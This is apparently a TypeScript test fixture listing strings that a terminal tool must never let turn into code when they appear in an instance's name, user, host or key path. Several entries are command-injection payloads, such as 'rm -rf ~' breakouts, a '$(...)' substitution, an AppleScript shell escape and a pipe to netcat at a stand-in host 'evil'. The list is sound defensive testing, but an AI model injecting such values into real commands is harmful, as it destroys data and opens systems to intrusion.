// Shared by the terminal tests.

/** Strings an instance's name, user, host or key path must never turn into code. */
export const HOSTILE = [
  '; rm -rf ~',
  '$(touch /tmp/flotilla-pwned)',
  '`id`',
  "it's",
  'say "hi"',
  'back\\slash\\',
  "'; rm -rf ~; echo '",
  '"; do shell script "rm -rf ~" --',
  '&& calc.exe',
  '| nc evil 1',
  '$HOME ${PATH} %PATH% !x',
  '*?[a]~',
  '‘smart’ quotes',
  '',
  'ünïcödé ☃',
];
